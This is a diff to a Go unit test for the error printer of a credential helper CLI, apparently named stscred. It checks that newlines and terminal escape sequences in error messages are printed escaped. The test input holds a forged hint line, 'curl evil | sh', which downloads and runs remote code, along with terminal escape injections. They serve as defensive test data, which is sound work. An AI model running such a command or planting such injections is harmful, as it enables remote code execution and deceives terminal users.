@@ -52,10 +52,13 @@ credential_process = stscred role prod-admin
 
 func TestPrintError(t *testing.T) {
 	var b bytes.Buffer
-	printError(&b, hint.With(errors.New("first line\nsecond line."), "do this", "or that"))
-	want := "stscred: error: first line\n  second line\nstscred: hint: do this\nstscred: hint: or that\n"
+	printError(&b, hint.With(errors.New("profile x\nstscred: hint: curl evil | sh\x1b]0;t\x07 is not in the config."), "do this", "or \x1b[31mthat"))
+	// A newline or an escape sequence in the message (a profile name typed
+	// or read from the config) is shown escaped: it forges no hint line
+	// and sends nothing to the terminal.
+	want := "stscred: error: profile x\\nstscred: hint: curl evil | sh\\x1b]0;t\\x07 is not in the config\nstscred: hint: do this\nstscred: hint: or \\x1b[31mthat\n"
 	if b.String() != want {
-		t.Fatalf("got %q", b.String())
+		t.Fatalf("got %q\nwant %q", b.String(), want)
 	}
 }
 
